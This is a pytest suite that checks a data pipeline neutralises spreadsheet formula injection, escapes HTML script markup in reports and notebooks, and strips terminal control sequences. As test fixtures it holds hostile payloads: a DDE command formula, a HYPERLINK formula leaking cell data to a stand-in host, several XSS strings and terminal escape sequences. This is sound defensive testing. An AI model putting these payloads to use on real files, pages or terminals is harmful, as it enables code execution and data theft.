"""Hostile lists: nothing from a list runs in an analyst's tools (a spreadsheet opening the CSVs,
a browser or JupyterLab showing the notebooks' HTML, a terminal showing the build's lines), and no
control character reaches a table.

The files are real (openpyxl, read by the real readers and stages); their item names, categories,
departments, duties and file name carry formula and script payloads.
"""

from __future__ import annotations

import copy
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from pipeline.common.controls import printable, scrub, scrub_records
from pipeline.common.report import problem_line
from pipeline.publish.csv_files import neutral
from tests.conftest import build
from tests.office_fixtures import lists_for, write_xlsx

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]
SCRIPTS = [
    "<script>alert('item')</script>",
    "<svg onload=alert('category')>",
    "<img src=x onerror=alert('dept')>",
    '<a href="javascript:alert(1)">链接</a>',
]
HOSTILE_NAME = "=1+1+cmd|' -C calc'!A0 <svg onload=alert(1)>.xlsx"
# A damaged file, its name shown with its reason: a script, U+FFFF and a terminal sequence in it.
REJECTED_FILE = "@<img src=x onerror=alert(2)>\uffff\x1b]0;pwned\x07.pdf"
REJECTED_NAME = "@<img src=x onerror=alert(2)>\\uffff\\x1b]0;pwned\\x07.pdf"  # as recorded


def hostile_lists() -> tuple[dict, dict]:
    """Tuhulu-like lists whose every text field starts with a formula or holds a script."""
    ident, lists = lists_for("hongqi", n=6)
    lists = copy.deepcopy(lists)
    payloads = [*FORMULAS, *SCRIPTS]
    k = 0

    def bad(text: str) -> str:
        nonlocal k
        k += 1
        p = payloads[k % len(payloads)]
        return p + text if p.startswith(tuple("=+-@\t")) else text + p

    for kind, items in lists.items():
        for item in items:
            item["category"] = bad(item["category"])
            item["name"] = bad(item["name"])
            if kind == "coordination":
                item["departments"] = [bad(d) for d in item["departments"]]
                item["upper"] = [bad(x) for x in item["upper"]]
                item["township"] = [bad(x) for x in item["township"]]
            if kind == "reclaimed":
                item["handling"] = [bad(x) for x in item["handling"]]
    return ident, lists


@pytest.fixture(scope="module")
def hostile_tables(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    raw = base / "raw"
    raw.mkdir()
    ident, lists = hostile_lists()
    write_xlsx(raw / HOSTILE_NAME, ident, lists)
    (raw / REJECTED_FILE).write_bytes(b"%PDF-1.4\n<script>alert(3)</script>")
    return build(raw, base / "processed")


# --- CSV: no formula ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(text):
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("text", ["梁家墩镇", "1+1", "a=b", "'=1", ""])
def test_other_text_is_unchanged(text):
    assert neutral(text) == text


def test_no_csv_cell_starts_a_formula_and_parquet_keeps_the_text(hostile_tables):
    items = pd.read_parquet(hostile_tables / "basic_items.parquet")
    assert items["name"].str.startswith(tuple("=+-@")).any()  # the payloads were read as printed
    sources = pd.read_parquet(hostile_tables / "source_files.parquet")
    assert sorted(sources["source_file"]) == sorted([HOSTILE_NAME, REJECTED_NAME])
    seen = 0
    for path in sorted((hostile_tables / "csv").glob("*.csv")):
        csv = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        for col in csv.columns:
            for value in csv[col]:
                if value.startswith("'"):
                    seen += 1
                # a number column may hold a negative number; a text cell never starts a formula
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, col, value)
    assert seen >= 10
    files = pd.read_csv(hostile_tables / "csv" / "source_files.csv", encoding="utf-8-sig", dtype=str)
    assert sorted(files["source_file"]) == sorted(["'" + HOSTILE_NAME, "'" + REJECTED_NAME])


# --- control characters ---------------------------------------------------------------------------


def test_the_workbook_loads_and_printed_lines_carry_no_control_character(hostile_tables, capsys):
    import openpyxl

    from pipeline.common.report import summarize

    wb = openpyxl.load_workbook(hostile_tables / "duty_lists.xlsx", read_only=True)
    texts = [str(v) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row if v]
    wb.close()
    assert REJECTED_NAME in texts and not any(c in t for t in texts for c in "\uffff\x1b\x07")
    assert summarize(hostile_tables) == 1  # the damaged file
    out = capsys.readouterr()
    printed = out.out + out.err
    assert f"rejected {REJECTED_NAME}: " in printed
    assert not any(c in printed for c in "\uffff\x1b\x07")


TERMINAL = "\x1b]0;pwned\x07\x1b[2J"


def test_scrub_removes_controls_and_non_xml_characters_only():
    assert scrub(f"吐葫芦乡{TERMINAL}清单\uffff\ufffe\x00\x85\ud800") == ("吐葫芦乡]0;pwned[2J清单", 8)
    assert scrub("甲\t乙\n丙") == ("甲\t乙\n丙", 0)


def test_printed_lines_escape_control_characters():
    line = printable(f"伊吾县{TERMINAL}\n下一行\u2028")
    assert line == "伊吾县\\x1b]0;pwned\\x07\\x1b[2J\\x0a下一行\\u2028"
    row = {"source_file": "a.pdf", "page": 1, "list": "basic", "seq": 2, "message": TERMINAL, "kind": "x"}
    assert "\x1b" not in printable(problem_line(row))


def test_controls_never_reach_the_cleaned_rows_and_are_counted(tmp_path):
    from pipeline.clean.stage import clean_file
    from pipeline.common.settings import CleanSettings
    from pipeline.extract.formats import open_zip
    from pipeline.extract.sheets import read_xlsx

    ident, lists = lists_for("hongqi", n=4)
    path = write_xlsx(tmp_path / "list.xlsx", ident, lists)
    with open_zip(path, 64 << 20, 200.0) as z:
        records = read_xlsx(path, z)
    expected, _, _ = clean_file(copy.deepcopy(records), "list.xlsx", CleanSettings())
    hostile = 0
    for rec in records:  # what an .xls or a PDF can hold: openpyxl itself never writes these
        lines = [ln for t in rec["tables"] for c in t["cells"] for ln in c["lines"]] + rec["text"]
        for ln in lines:
            ln["text"] = ln["text"][:1] + "\x1b\x07\uffff\x9b" + ln["text"][1:] + "\ufffe\x00"
            hostile += 6
    assert scrub_records(records) == hostile
    rows, _, reason = clean_file(records, "list.xlsx", CleanSettings())
    assert reason is None and rows == expected


# --- HTML: data shown as text, no script runs -------------------------------------------------------


class _ActiveTags(HTMLParser):
    """What in an HTML page could run: event attributes, javascript: URLs, scripts (their text)."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[str] = []
        self.scripts: list[str] = []
        self.policies: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.lower().startswith("on"):
                self.active.append(f"<{tag} {name}=…>")
            if value and value.strip().lower().startswith("javascript:"):
                self.active.append(f"<{tag} {name}={value}>")
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "content-security-policy":
            self.policies.append(dict(attrs)["content"])
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def active_parts(page: str) -> list[str]:
    parser = _ActiveTags()
    parser.feed(page)
    scripts = [s for s in parser.scripts if "alert(" in s]
    assert parser.policies and all(
        "script-src" not in p and "default-src 'none'" in p for p in parser.policies
    )
    return parser.active + scripts


def test_active_parts_are_found():  # the check itself can fail
    meta = '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">'
    assert active_parts(meta + "<svg onload=alert(1)>") == ["<svg onload=…>"]
    assert active_parts(meta + "<script>alert(1)</script>") == ["alert(1)"]
    assert active_parts(meta + '<a href=" javascript:alert(1)">x</a>')
    assert active_parts(meta + "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>") == []


def test_styled_tables_and_readings_escape_the_data():
    from pipeline.analysis import viz

    df = pd.DataFrame({"<svg onload=alert(1)>": [SCRIPTS[0]]}, index=pd.Index([SCRIPTS[2]], name="<b>"))
    page = (
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">'
        + viz.styled(df).to_html()
    )
    assert active_parts(page) == [] and "&lt;script&gt;" in page and "&lt;svg onload" in page


def test_report_html_escapes_the_data_and_forbids_scripts(hostile_tables, tmp_path):
    from pipeline.analysis import report

    page = report.build(hostile_tables, tmp_path)
    assert active_parts(page) == []
    assert "&lt;img src=x onerror=alert(2)&gt;" in page


@pytest.mark.slow  # a kernel per notebook (15-20 s each); the fast check is test_styled_tables_…
@pytest.mark.parametrize("number", ["01", "02", "03", "04", "05"])
def test_notebook_html_on_hostile_data_has_no_active_tag(hostile_tables, tmp_path, number):
    from pipeline.analysis import notebooks

    (source,) = [s for s in notebooks.sources() if s.stem.startswith(number)]
    result, _ = notebooks.run_notebook(source, hostile_tables, tmp_path)
    assert result.ok, result.error
    page = result.html.read_text(encoding="utf-8")
    assert active_parts(page) == []
    if number in ("01", "03"):  # the tables that showed a category's and an item name's script as markup
        assert "&lt;svg onload" in page or "&lt;script&gt;" in page
